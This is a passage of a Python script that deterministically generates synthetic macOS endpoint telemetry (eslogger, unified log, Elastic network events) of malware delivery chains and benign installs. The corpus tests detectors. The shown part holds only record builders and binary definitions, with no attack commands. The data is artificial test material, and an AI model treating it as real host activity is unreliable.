"""Generate the scenario corpus in ``tests/corpus/<scenario>/``: real-format telemetry of macOS delivery chains.

Each folder is one host (the folder name is the host name) and holds what three sensors on that Mac wrote while one
story happened: ``eslogger.jsonl`` (Endpoint Security as ``eslogger`` prints it: message version 9 on macOS 15 with
audit tokens as objects, version 10 on macOS 26 with 8-integer audit tokens and ``cs_validation_category``),
``unifiedlog.ndjson`` (``log show --style ndjson``: local-time stamps, ``\\/``-escaped paths, the closing
``{"count":N,"finished":1}``), ``elastic-network.ndjson`` (Elastic Defend ``endpoint.events.network`` documents with
entity ids and ancestry) and ``expected.json`` (the label: family, public reporting, whether it is malicious, which
pid is stage 3, which pids made the malicious connections). ``tests/corpus/README.md`` describes every scenario.

The stories are written as the attacker's delivery really runs (browser download mechanics, disk-image mounts,
Gatekeeper translocation and overrides, the stealer's own command lines), not to suit any detector. Benign installs
(Slack, Zoom, Blender, VS Code, Homebrew, Python, JetBrains Toolbox) use the vendors' real team identifiers.

Deterministic: no clock, no randomness (every "random" value is a hash of the scenario and a label); eslogger key
order is scrambled with the same hash as ``scripts/make_samples.py`` does. Record builders (files, stat blocks,
processes, audit tokens, signing) are imported from ``scripts/make_samples.py``.

``.venv/bin/python scripts/make_corpus.py`` rewrites the corpus; ``--check`` exits 1 when a file on disk differs from
what would be written (or a scenario folder holds a file the generator does not write).
"""

# The stories name attackers' /tmp paths and passwords as data (they are telemetry strings, never used here).
# ruff: noqa: S106, S108

from __future__ import annotations

import argparse
import base64
import shlex
import sys
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import orjson

sys.path.insert(0, str(Path(__file__).resolve().parent))

from make_samples import (  # the sibling script, imported from its folder (sys.path above)
    ARCHIVER,
    BASH,
    CPU_ARM64,
    CURL,
    DEV_NULL_FDS,
    EPOCH_1601_OFFSET_S,
    FLAGS_ADHOC,
    LAUNCHD,
    LOGIN,
    MDWORKER_SHARED,
    NETWORKING,
    NS,
    OSASCRIPT,
    SAFARI,
    SH,
    SUBTYPE_ARM64,
    SYSPOLICYD,
    TERMINAL,
    WEBCONTENT,
    XPCPROXY,
    ZSH,
    Binary,
    Cred,
    Image,
    Inode,
    _digest,
    file_obj,
    iso_ns,
    scramble,
    system_binary,
)

ROOT = Path(__file__).resolve().parents[1]
CORPUS = ROOT / "tests" / "corpus"

# codesigning_flags (cs_blobs.h). Developer ID with the hardened runtime, as on the real Mullvad VPN line
# (CS_SIGNED|CS_DYLD_PLATFORM|CS_RUNTIME|CS_VALID); Developer ID without the runtime (not notarizable); an ad-hoc
# signature made by the linker (CS_LINKER_SIGNED added).
FLAGS_DEVID = 0x22010001
FLAGS_DEVID_NORUNTIME = 0x22000001
FLAGS_ADHOC_LINKER = 0x22020003
DEV_DATA = 16_777_234
DEV_TRANSLOCATION = 687_865_871


def hnum(*parts: object) -> int:
    """A deterministic 64-bit number for ``parts``."""
    return int.from_bytes(_digest(*parts)[:8], "big")


def huuid(*parts: object) -> str:
    """A deterministic upper-case UUID for ``parts``."""
    raw = _digest("uuid", *parts).hex().upper()
    return f"{raw[:8]}-{raw[8:12]}-4{raw[13:16]}-{'89AB'[int(raw[16], 16) % 4]}{raw[17:20]}-{raw[20:32]}"


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def hpick(alphabet: str, length: int, *parts: object) -> str:
    """A deterministic string of ``length`` characters of ``alphabet``."""
    digest = _digest("pick", *parts) * 4
    return "".join(alphabet[b % len(alphabet)] for b in digest[:length])


# -- platform binaries ----------------------------------------------------------------------------------------------

def apple(path: str, signing_id: str, ino: int, size: int) -> Binary:
    return Binary(path, signing_id, system_binary(1_152_921_500_311_000_000 + ino, size))


DSCL = apple("/usr/bin/dscl", "com.apple.dscl", 881_204, 287_136)
SECURITY = apple("/usr/bin/security", "com.apple.security", 883_502, 1_016_912)
AWK = apple("/usr/bin/awk", "com.apple.awk", 879_310, 204_672)
DITTO = apple("/usr/bin/ditto", "com.apple.ditto", 881_377, 170_224)
CAT = apple("/bin/cat", "com.apple.cat", 879_930, 119_376)
MKDIR = apple("/bin/mkdir", "com.apple.mkdir", 879_951, 118_448)
RM = apple("/bin/rm", "com.apple.rm", 879_968, 119_952)
CHMOD = apple("/bin/chmod", "com.apple.chmod", 879_933, 136_336)
CP = apple("/bin/cp", "com.apple.cp", 879_935, 154_016)
BASE64 = apple("/usr/bin/base64", "com.apple.base64", 880_412, 101_488)
OPENSSL = apple("/usr/bin/openssl", "com.apple.openssl", 883_019, 1_428_800)
DIRNAME = apple("/usr/bin/dirname", "com.apple.dirname", 881_299, 100_816)
KILLALL = apple("/usr/bin/killall", "com.apple.killall", 882_366, 120_080)
LAUNCHCTL = apple("/bin/launchctl", "com.apple.xpc.launchctl", 879_948, 394_448)
SYSTEM_PROFILER = apple("/usr/sbin/system_profiler", "com.apple.system_profiler", 884_077, 382_256)
XATTR = apple("/usr/bin/xattr", "com.apple.xattr", 885_001, 136_112)
SW_VERS = apple("/usr/bin/sw_vers", "com.apple.sw_vers", 884_500, 100_528)
SUDO = apple("/usr/bin/sudo", "com.apple.sudo", 884_310, 526_608)
GIT = apple("/usr/bin/git", "com.apple.dt.xcode_select.tool-shim", 882_004, 167_120)
UNAME = apple("/usr/bin/uname", "com.apple.uname", 884_880, 100_912)
MOUNT = apple("/sbin/mount", "com.apple.mount", 879_990, 152_336)
MOUNT_HFS = apple("/sbin/mount_hfs", "com.apple.mount_hfs", 879_994, 185_344)
MOUNT_APFS = apple("/sbin/mount_apfs", "com.apple.mount_apfs", 879_992, 438_288)
DISKARBITRATIOND = apple("/usr/libexec/diskarbitrationd", "com.apple.diskarbitrationd", 886_101, 492_208)
DISKIMAGESIOD = apple("/usr/libexec/diskimagesiod", "com.apple.diskimagesiod", 886_130, 1_203_904)
DISKIMAGEMOUNTER = apple("/System/Library/CoreServices/DiskImageMounter.app/Contents/MacOS/DiskImageMounter",
                         "com.apple.DiskImageMounter", 990_412, 301_056)
LSD = apple("/usr/libexec/lsd", "com.apple.lsd", 886_540, 124_128)
FINDER = apple("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "com.apple.finder", 990_101,
               9_731_360)
INSTALLER = apple("/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer", "com.apple.installer",
                  990_230, 822_400)
INSTALLD = apple("/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/installd",
                 "com.apple.installd", 990_640, 602_720)
PKG_SCRIPT_SERVICE = apple(
    "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/package_script_service",
    "com.apple.package_script_service", 990_647, 139_504)
MAIL = apple("/System/Applications/Mail.app/Contents/MacOS/Mail", "com.apple.mail", 990_880, 6_209_584)
SETTINGS = apple("/System/Applications/System Settings.app/Contents/MacOS/System Settings",
                 "com.apple.systempreferences", 990_910, 1_170_592)
BTM_AGENT = apple("/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Versions/A/Resources/"
                  "backgroundtaskmanagementd", "com.apple.backgroundtaskmanagementd", 990_950, 1_289_408)
SOFTWAREUPDATED = apple("/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
                        "com.apple.softwareupdated", 991_004, 3_020_816)
NSURLSESSIOND = apple("/usr/libexec/nsurlsessiond", "com.apple.nsurlsessiond", 886_610, 402_768)
XPROTECT = apple("/Library/Apple/System/Library/CoreServices/XProtect.app/Contents/MacOS/XProtect",
                 "com.apple.XProtectFramework.plugins.XProtect", 992_100, 8_702_112)
MDS_STORES = apple("/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/"
                   "Versions/A/Support/mds_stores", "com.apple.mds_stores", 992_140, 1_520_880)
CFPREFSD = apple("/usr/sbin/cfprefsd", "com.apple.cfprefsd.xpc.agent", 884_010, 351_360)
PYTHON_CLT = apple("/usr/bin/python3", "com.apple.python3", 883_700, 167_120)

# -- third-party binaries (Developer ID) -----------------------------------------------------------------------------

CHROME_VERSION = "145.0.7632.117"
EDGE_VERSION = "145.0.3800.70"


def app_binary(path: str, signing_id: str, team: str | None, ino: int, size: int, *, flags: int = FLAGS_DEVID,
               dev: int = DEV_DATA, uid: int = 0, when: str = "2026-02-19T21:14:07.000000000Z",
               subtype: int = SUBTYPE_ARM64) -> Binary:
    node = Inode(ino=ino, size=size, mode=0o100755, uid=uid, gid=80 if uid == 0 else 20, dev=dev, birth=when,
                 modified=when, changed=when, accessed="2026-03-01T08:12:44.518220000Z")
    return Binary(path, signing_id, node, team_id=team, platform=False, flags=flags, subtype=subtype)


def chrome_helper_path(kind: str = "") -> str:
    name = f"Google Chrome Helper{f' ({kind})' if kind else ''}"
    return (f"/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/"
            f"{CHROME_VERSION}/Helpers/{name}.app/Contents/MacOS/{name}")


def edge_helper_path(kind: str = "") -> str:
    name = f"Microsoft Edge Helper{f' ({kind})' if kind else ''}"
    return (f"/Applications/Microsoft Edge.app/Contents/Frameworks/Microsoft Edge Framework.framework/Versions/"
            f"{EDGE_VERSION}/Helpers/{name}.app/Contents/MacOS/{name}")


CHROME = app_binary("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "com.google.Chrome",
                    "EQHXZ8M8AV", 40_118_274, 183_232)
CHROME_HELPER = app_binary(chrome_helper_path(), "com.google.Chrome.helper", "EQHXZ8M8AV", 40_118_611, 166_064)
CHROME_RENDERER = app_binary(chrome_helper_path("Renderer"), "com.google.Chrome.helper.renderer", "EQHXZ8M8AV",
                             40_118_640, 166_064)
CHROME_GPU = app_binary(chrome_helper_path("GPU"), "com.google.Chrome.helper.gpu", "EQHXZ8M8AV", 40_118_625,
                        166_064)
EDGE = app_binary("/Applications/Microsoft Edge.app/Contents/MacOS/Microsoft Edge", "com.microsoft.edgemac",
                  "UBF8T346G9", 41_009_113, 203_776)
EDGE_HELPER = app_binary(edge_helper_path(), "com.microsoft.edgemac.helper", "UBF8T346G9", 41_009_480, 184_448)
EDGE_RENDERER = app_binary(edge_helper_path("Renderer"), "com.microsoft.edgemac.helper.renderer", "UBF8T346G9",
                           41_009_502, 184_448)
FIREFOX = app_binary("/Applications/Firefox.app/Contents/MacOS/firefox", "org.mozilla.firefox", "43AQ936H96",
                     39_440_120, 1_020_768)
PLUGIN_CONTAINER = app_binary(
    "/Applications/Firefox.app/Contents/MacOS/plugin-container.app/Contents/MacOS/plugin-container",
    "org.mozilla.plugincontainer", "43AQ936H96", 39_440_231, 206_624)
WORD = app_binary("/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word", "com.microsoft.Word",
                  "UBF8T346G9", 42_771_902, 127_004_560)
TELEGRAM = app_binary("/Applications/Telegram.app/Contents/MacOS/Telegram", "ru.keepcoder.Telegram", "6N38VWS5BX",
                      43_120_077, 96_338_112)

# runningboardd job labels: application.<bundle id>.<bundle record ids>.
def job_of(bundle_id: str, salt: str = "") -> str:
    a = 1_000_000 + hnum("job", bundle_id, salt) % 9_000_000
    return f"application.{bundle_id}.{a}.{a + 8}"


# -- per-OS unified-log image identities (the same build has the same UUIDs on every Mac) -------------------------

@dataclass(frozen=True)
class OSInfo:
    full: str
    version: str
    kernel: str
    es_version: int
    build_salt: str


MACOS15 = OSInfo("macOS 15.6", "15.6", "24.6.0", 9, "")
MACOS26 = OSInfo("macOS 26.3", "26.3", "25.3.0", 10, "26.3")

# processImagePath -> (processImageUUID, senderImagePath, senderImageUUID) as the bundled mac-01 sample has them
# (macOS 15.6); macOS 26 images get other (hash-derived) UUIDs.
_UL_15: dict[tuple[str, str], tuple[str, str]] = {
    ("/usr/libexec/runningboardd", "rb"):
        ("5F1E0C2A-8B7D-3A49-9E61-0C4D2B8A7F13", "1F7C3A5E-8D2B-3F64-9A1C-5E0B7D3F2A81"),
    ("/System/Library/CoreServices/CoreServicesUIAgent.app/Contents/MacOS/CoreServicesUIAgent", "ls"):
        ("A3B9E1D7-2C4F-3E58-B6A0-9D1C7E5F2B84", "6C2E9A4D-1B7F-3C85-A2D0-8E5B3F9C1A47"),
    ("/System/Library/CoreServices/CoreServicesUIAgent.app/Contents/MacOS/CoreServicesUIAgent", "self"):
        ("A3B9E1D7-2C4F-3E58-B6A0-9D1C7E5F2B84", "A3B9E1D7-2C4F-3E58-B6A0-9D1C7E5F2B84"),
    ("/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow", "self"):
        ("C81D4F6B-0E3A-3B72-8D95-6F2A1C9E4B07", "C81D4F6B-0E3A-3B72-8D95-6F2A1C9E4B07"),
    ("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "appkit"):
        ("E2A7C5B9-4D1F-3068-A3E2-7B9D0C6F1A45", "3A9F5C1E-7B2D-3E48-B6A5-0D4C8E2F9B16"),
    ("/usr/libexec/lsd", "sec"): ("0B6D3E8F-1A2C-3D94-87E5-4C9F2A6B1D30", "8E3B1D7A-4C9F-3A26-95E0-1F6D2B8C4A73"),
    ("/usr/libexec/syspolicyd", "sp"): ("9D4C1B7E-6F3A-3825-B0D9-2E8C5A1F7B62", "D5A2E8C1-3F6B-3D97-80B4-7C1E9A5D2F38"),
    ("/kernel", "sandbox"): ("9B5A7191-5B84-3990-8710-D9BD9273A8E5", "EFCEFC07-848B-3EA7-87A0-E967111ABE77"),
}

# log sources: key -> (process image path, sender image path, sender key, subsystem, category, userID, pc base)
UL_SOURCES: dict[str, tuple[str, str, str, str, str, int, int]] = {
    "runningboardd": ("/usr/libexec/runningboardd",
                      "/System/Library/PrivateFrameworks/RunningBoard.framework/Versions/A/RunningBoard", "rb",
                      "com.apple.runningboard", "process", 0, 184_212),
    "csuia-ls": ("/System/Library/CoreServices/CoreServicesUIAgent.app/Contents/MacOS/CoreServicesUIAgent",
                 "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/LaunchServices.framework/"
                 "Versions/A/LaunchServices", "ls", "com.apple.launchservices", "default", 501, 913_420),
    "csuia": ("/System/Library/CoreServices/CoreServicesUIAgent.app/Contents/MacOS/CoreServicesUIAgent",
              "/System/Library/CoreServices/CoreServicesUIAgent.app/Contents/MacOS/CoreServicesUIAgent", "self",
              "com.apple.coreservices.uiagent", "default", 501, 187_604),
    "loginwindow": ("/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow",
                    "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow", "self",
                    "com.apple.loginwindow.logging", "Standard", 501, 1_289_044),
    "finder": ("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder",
               "/System/Library/Frameworks/AppKit.framework/Versions/C/AppKit", "appkit", "", "", 501, 3_441_268),
    "lsd": ("/usr/libexec/lsd", "/System/Library/Frameworks/Security.framework/Versions/A/Security", "sec",
            "com.apple.securityd", "translocate", 501, 2_512_996),
    "syspolicyd": ("/usr/libexec/syspolicyd",
                   "/System/Library/PrivateFrameworks/SystemPolicy.framework/Versions/A/SystemPolicy", "sp",
                   "com.apple.syspolicy.exec", "default", 0, 301_532),
    "kernel-asp": ("/kernel", "/System/Library/Extensions/AppleSystemPolicy.kext/Contents/MacOS/AppleSystemPolicy",
                   "asp", "", "", 0, 58_112),
    "diskarbitrationd": ("/usr/libexec/diskarbitrationd", "/usr/libexec/diskarbitrationd", "self",
                         "com.apple.DiskArbitration.diskarbitrationd", "default", 0, 204_880),
    "installer": ("/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer",
                  "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/PackageKit", "pk",
                  "com.apple.PackageKit", "Installer", 501, 611_204),
    "installd": ("/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/installd",
                 "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/PackageKit", "pk",
                 "com.apple.PackageKit", "installd", 0, 622_880),
    "package_script_service": (
        "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/package_script_service",
        "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/PackageKit", "pk",
        "com.apple.PackageKit", "package_script_service", 0, 633_012),
    "bluetoothd": ("/usr/sbin/bluetoothd", "/usr/sbin/bluetoothd", "self", "com.apple.bluetooth",
                   "Server.LE.Scan", 0, 2_217_360),
    "Telegram": ("/Applications/Telegram.app/Contents/MacOS/Telegram",
                 "/Applications/Telegram.app/Contents/MacOS/Telegram", "self", "", "", 501, 4_430_112),
}

UL_KEYS = ("timezoneName", "messageType", "eventType", "source", "formatString", "userID", "activityIdentifier",
           "subsystem", "category", "threadID", "senderImageUUID", "backtrace", "bootUUID", "processImagePath",
           "senderImagePath", "timestamp", "machTimestamp", "eventMessage", "processImageUUID", "traceID",
           "processID", "senderProgramCounter", "parentActivityIdentifier")

ES_TYPES = {
    "exec": 9, "open": 10, "fork": 11, "close": 12, "create": 13, "exit": 15, "mount": 22, "rename": 25,
    "setextattr": 27, "setmode": 29, "unlink": 32, "write": 33, "btm_launch_item_add": 124,
    "gatekeeper_user_override": 146,
}

TOKEN_ORDER = ("auid", "euid", "egid", "ruid", "rgid", "pid", "asid", "pidversion")


def shq(text: str) -> str:
    return shlex.quote(text)


# -- one host: three sensors and the processes they see ------------------------------------------------------------

ROOT_CRED = Cred(auid=4_294_967_295, euid=0, egid=0, ruid=0, rgid=0, asid=100_000)


@dataclass
class Host:
    """One Mac: its clock, its users and daemons, and what eslogger, the unified log and Elastic Defend wrote."""

    name: str
    os: OSInfo
    day: str
    tz_minutes: int
    user: str
    boot: str  # "YYYY-MM-DDTHH:MM:SS.ffffff" UTC
    ip: str
    pid0: int
    pv0: int
    asid: int = 100_017
    agent_version: str = "8.17.3"
    unified: bool = True
    subscribed: frozenset[str] = frozenset(ES_TYPES)
    es_records: list[tuple[int, int, str, dict[str, Any], dict[str, Any]]] = field(default_factory=list)
    ul_records: list[tuple[int, int, dict[str, Any]]] = field(default_factory=list)
    ecs_docs: list[tuple[int, int, dict[str, Any]]] = field(default_factory=list)
    anc: dict[tuple[int, int], tuple[int, tuple[int, int] | None]] = field(default_factory=dict)
    orig_ppid: dict[tuple[int, int], int] = field(default_factory=dict)
    ul_pids: dict[str, int] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.home = f"/Users/{self.user}"
        self.downloads = f"{self.home}/Downloads"
        folder = hpick("abcdefghijklmnopqrstuvwxyz0123456789_", 22, self.name, "tmpdir")
        self.tmpdir = f"/var/folders/{hpick('0123456789abcdefghjklmnpqrstvwxyz', 2, self.name, 'vf')}/{folder}0000gn/T/"
        self.ptmp = "/private" + self.tmpdir.rstrip("/")
        self.boot_ns = parse_utc(self.boot)
        self.tz = timezone(timedelta(minutes=self.tz_minutes))
        self.cred = Cred(auid=501, euid=501, egid=20, ruid=501, rgid=20, asid=self.asid)
        self._pid = self.pid0
        self._pv = self.pv0
        self._ino = 30_000_000 + hnum(self.name, "ino") % 9_000_000
        self.agent_id = huuid(self.name, "agent").lower()
        self.host_id = huuid(self.name, "host")
        self.boot_uuid = huuid(self.name, "boot")
        self.asn = 0x40000 + hnum(self.name, "asn") % 0x60000
        kernel = Image(pid=0, pidversion=0, binary=LAUNCHD, cred=ROOT_CRED, ppid=0, parent=None,
                       start_ns=self.boot_ns, group_id=0, session_id=0)
        self.launchd = Image(pid=1, pidversion=1000 + hnum(self.name, "lpv") % 40, binary=LAUNCHD, cred=ROOT_CRED,
                             ppid=0, parent=kernel, start_ns=self.boot_ns, group_id=1, session_id=1)
        self.anc[(1, self.launchd.pidversion)] = (self.boot_ns, None)
        self.ul_pids["/kernel"] = 0
        self.mac = "-".join(f"{b:02x}" for b in _digest(self.name, "mac")[:6])

    # -- clock and counters ----------------------------------------------------------------------------------------

    def t(self, clock: str, day: str | None = None) -> int:
        """``HH:MM:SS.fffffffff`` (UTC) on the story's day, in nanoseconds since the epoch."""
        whole, _, fraction = clock.partition(".")
        base = datetime.fromisoformat(f"{day or self.day}T{whole}+00:00")
        return int(base.timestamp()) * NS + int(fraction.ljust(9, "0")[:9])

    def pid(self) -> int:
        self._pid += 1 + hnum(self.name, "pid", self._pid) % 4
        return self._pid

    def pv(self) -> int:
        self._pv += 1 + hnum(self.name, "pv", self._pv) % 3
        return self._pv

    def ino(self) -> int:
        self._ino += 1 + hnum(self.name, "ino", self._ino) % 3
        return self._ino

    def mach(self, t: int) -> int:
        return (t - self.boot_ns) * 24 // 1000

    def node(self, t: int, size: int = 0, *, mode: int = 0o100644, dev: int = DEV_DATA, uid: int = 501,
             ino: int | None = None) -> Inode:
        when = iso_ns(t)
        return Inode(ino=ino or self.ino(), size=size, mode=mode, uid=uid, gid=20 if uid else 0, dev=dev, birth=when,
                     modified=when, changed=when, accessed=when)

    def dnode(self, t: int, entries: int = 0, *, uid: int = 501, dev: int = DEV_DATA, ino: int | None = None) -> Inode:
        when = iso_ns(t)
        return Inode(ino=ino or self.ino(), size=64 + 32 * entries, mode=0o040755, uid=uid, gid=20 if uid else 0,
                     dev=dev, nlink=2 + entries, birth=when, modified=when, changed=when, accessed=when)

    def existing(self, path_ino: int, size: int, *, mode: int = 0o100644, when: str = "2026-02-11T16:20:41.000000000Z",
                 uid: int = 501) -> Inode:
        """A file that was there long before the story."""
        return Inode(ino=path_ino, size=size, mode=mode, uid=uid, gid=20 if uid else 0, dev=DEV_DATA, birth=when,
                     modified=when, changed=when, accessed=when)

    # -- processes -------------------------------------------------------------------------------------------------

    def p(self, img: Image) -> dict[str, Any]:
        """The ``es_process_t`` for this host's message version."""
        obj = img.process()
        original = self.orig_ppid.get((img.pid, img.start_ns))
        if original is not None:
            obj["original_ppid"] = original
        if self.os.es_version >= 10:
            for key in ("audit_token", "parent_audit_token", "responsible_audit_token"):
                obj[key] = [obj[key][k] for k in TOKEN_ORDER]
            obj["cs_validation_category"] = validation_category(img.binary)
        return obj

    def track(self, img: Image, start: int, parent: Image | None) -> None:
        self.anc[(img.pid, img.pidversion)] = (
            start, (parent.pid, parent.pidversion) if parent is not None else (1, self.launchd.pidversion))

    def running(self, binary: Binary, *, pid: int, start: int, cred: Cred | None = None, ppid_img: Image | None = None,
                responsible: Image | None = None, session_id: int | None = None) -> Image:
        """A process that was already running when the capture began (it shows only as an instigator)."""
        parent = ppid_img or self.launchd
        img = Image(pid=pid, pidversion=self.pv0 - 4000 + hnum(self.name, "old", pid) % 3900, binary=binary,
                    cred=cred or self.cred, ppid=parent.pid, parent=parent, start_ns=start, group_id=pid,
                    session_id=session_id if session_id is not None else (pid if cred is ROOT_CRED else 1),
                    responsible=responsible)
        self.track(img, start, parent)
        self.ul_pids.setdefault(binary.path, pid)
        return img

    def es(self, t: int, img: Image, name: str, payload: dict[str, Any]) -> None:
        if name in self.subscribed:
            self.es_records.append((t, len(self.es_records), name, self.p(img), payload))

    def fork(self, t: int, parent: Image, *, pid: int | None = None, cred: Cred | None = None,
             group_id: int | None = None, session_id: int | None = None) -> Image:
        child = parent.forked(pid or self.pid(), self.pv(), t, cred=cred, group_id=group_id, session_id=session_id)
        self.es(t, parent, "fork", {"child": self.p(child)})
        self.track(child, t, parent)
        return child

    def exec(self, t: int, before: Image, binary: Binary, args: list[str], *, env: list[str] | None = None,
             cwd: str = "/", responsible: Image | None = None, self_responsible: bool = False,
             cred: Cred | None = None, script: tuple[str, Inode] | None = None,
             fds: list[dict[str, int]] | None = None) -> Image:
        after = replace(before.execs(binary, cred=cred, responsible=responsible, self_responsible=self_responsible),
                        pidversion=self.pv())
        fds = fds if fds is not None else DEV_NULL_FDS
        cwd_node = Inode(ino=2, size=704, mode=0o040755, uid=0, gid=0, dev=16_777_233, nlink=22) if cwd == "/" else \
            Inode(ino=hnum(self.name, cwd) % 30_000_000 + 300_000, size=352, mode=0o040755, dev=DEV_DATA, nlink=9,
                  birth="2025-11-03T09:12:40.000000000Z", modified="2026-02-27T10:02:11.000000000Z",
                  changed="2026-02-27T10:02:11.000000000Z", accessed="2026-02-27T10:02:11.000000000Z")
        self.es(t, before, "exec", {
            "target": self.p(after), "args": args, "env": env if env is not None else self.env_for(after),
            "cwd": file_obj(cwd, cwd_node), "script": file_obj(*script) if script else None,
            "dyld_exec_path": binary.path, "fds": fds, "last_fd": max(fd["fd"] for fd in fds),
            "image_cputype": CPU_ARM64, "image_cpusubtype": binary.subtype,
        })
        self.track(after, t, before)
        return after

    def spawn(self, t: int, parent: Image, binary: Binary, args: list[str], *, gap: int = 1_900_000,
              pid: int | None = None, cred: Cred | None = None, **kw: Any) -> Image:
        """``posix_spawn``: a fork of ``parent`` and, ``gap`` ns later, the exec of ``binary``."""
        child = self.fork(t, parent, pid=pid, cred=cred)
        return self.exec(t + gap, child, binary, args, **kw)

    def exit(self, t: int, img: Image, status: int = 0, signal: int = 0) -> None:
        self.es(t, img, "exit", {"stat": signal if signal else status << 8})

    def env_for(self, img: Image) -> list[str]:
        if img.cred.euid == 0:
            return ["PATH=/usr/bin:/bin:/usr/sbin:/sbin", "XPC_FLAGS=0x0", "XPC_SERVICE_NAME=0"]
        return [f"TMPDIR={self.tmpdir}", f"HOME={self.home}", f"USER={self.user}", f"LOGNAME={self.user}",
                "SHELL=/bin/zsh", "PATH=/usr/bin:/bin:/usr/sbin:/sbin", "XPC_FLAGS=0x0", "XPC_SERVICE_NAME=0",
                "__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0"]

    def gui_env(self, job: str, bundle_id: str) -> list[str]:
        return ["SHELL=/bin/zsh", f"TMPDIR={self.tmpdir}", f"HOME={self.home}", f"USER={self.user}",
                f"LOGNAME={self.user}", "PATH=/usr/bin:/bin:/usr/sbin:/sbin",
                f"SSH_AUTH_SOCK=/private/tmp/com.apple.launchd.{hpick(ALNUM, 10, self.name)}/Listeners",
                "XPC_FLAGS=0x0", f"XPC_SERVICE_NAME={job}", "COMMAND_MODE=unix2003",
                f"__CFBundleIdentifier={bundle_id}", "__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0"]

    def launch(self, t: int, binary: Binary, *, bundle_id: str | None = None, responsible: Image | None = None,
               pid: int | None = None, args: list[str] | None = None, cred: Cred | None = None,
               log: bool = True, app_url: str | None = None, job: str | None = None,
               script: tuple[str, Inode] | None = None) -> Image:
        """launchd fork -> xpcproxy -> the app, agent or XPC service; runningboardd logs app launches."""
        cred = cred or self.cred
        label = job or (job_of(bundle_id, self.name) if bundle_id else binary.signing_id)
        child = self.fork(t, self.launchd, pid=pid)  # launchd's child calls setsid() before it execs xpcproxy
        child = replace(child, group_id=child.pid, session_id=child.pid if cred is ROOT_CRED else 1)
        proxy = self.exec(t + 790_000, child, XPCPROXY, ["xpcproxy", label], env=[], self_responsible=True)
        proxy_as = replace(proxy, cred=cred)
        self.anc[(proxy_as.pid, proxy_as.pidversion)] = self.anc[(proxy.pid, proxy.pidversion)]
        env = self.gui_env(label, bundle_id) if bundle_id else self.env_for(proxy_as) if cred is ROOT_CRED else [
            f"TMPDIR={self.tmpdir}", f"HOME={self.home}", f"USER={self.user}", f"LOGNAME={self.user}",
            "PATH=/usr/bin:/bin:/usr/sbin:/sbin", "XPC_FLAGS=0x0", f"XPC_SERVICE_NAME={label}",
            "__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0"]
        exec_at = t + 4_300_000 + hnum(self.name, "launch", binary.path) % 2_000_000
        app = self.exec(exec_at, proxy_as, binary, args or [binary.path], env=env, responsible=responsible,
                        self_responsible=responsible is None, script=script)
        self.ul_pids[binary.path] = app.pid
        if bundle_id and log:
            self.ul_launch(t, exec_at, label, bundle_id, app.pid, script[0] if script else binary.path, app_url)
        return app

    # -- file events -----------------------------------------------------------------------------------------------

    def create(self, t: int, img: Image, path: str, node: Inode) -> None:
        self.es(t, img, "create", {"destination_type": 0, "destination": {"existing_file": file_obj(path, node)},
                                   "acl": None})

    def close(self, t: int, img: Image, path: str, node: Inode, *, modified: bool = True) -> None:
        self.es(t, img, "close", {"modified": modified, "was_mapped_writable": False, "target": file_obj(path, node)})

    def write(self, t: int, img: Image, path: str, node: Inode) -> None:
        self.es(t, img, "write", {"target": file_obj(path, node)})

    def open(self, t: int, img: Image, path: str, node: Inode, fflag: int = 1) -> None:
        self.es(t, img, "open", {"fflag": fflag, "file": file_obj(path, node)})

    def setxattr(self, t: int, img: Image, path: str, node: Inode, name: str = "com.apple.quarantine") -> None:
        self.es(t, img, "setextattr", {"target": file_obj(path, node), "extattr": name})

    def setmode(self, t: int, img: Image, path: str, node: Inode, mode: int) -> None:
        self.es(t, img, "setmode", {"mode": mode, "target": file_obj(path, node)})

    def unlink(self, t: int, img: Image, path: str, node: Inode, parent: Inode) -> None:
        self.es(t, img, "unlink", {"target": file_obj(path, node),
                                   "parent_dir": file_obj(path.rsplit("/", 1)[0], parent)})

    def rename(self, t: int, img: Image, src: str, node: Inode, dst: str, dir_node: Inode,
               existing: Inode | None = None) -> None:
        folder, _, name = dst.rpartition("/")
        if existing is not None:  # replaces a file that is there (e.g. Firefox's placeholder)
            self.es(t, img, "rename", {"source": file_obj(src, node), "destination_type": 0,
                                       "destination": {"existing_file": file_obj(dst, existing)}})
        else:
            self.es(t, img, "rename", {"source": file_obj(src, node), "destination_type": 1,
                                       "destination": {"new_path": {"dir": file_obj(folder, dir_node),
                                                                    "filename": name}}})

    def mount(self, t: int, img: Image, *, fstype: str, on: str, source: str, disposition: int, blocks: int,
              flags: int, owner: int = 501) -> None:
        type_numbers = {"hfs": 17, "apfs": 26, "nullfs": 33}
        fsid = [16_777_216 + hnum(self.name, "fsid", on) % 64, type_numbers[fstype]]
        payload: dict[str, Any] = {"statfs": {
            "f_bsize": 4096, "f_iosize": 1_048_576 if fstype != "nullfs" else 4096, "f_blocks": blocks,
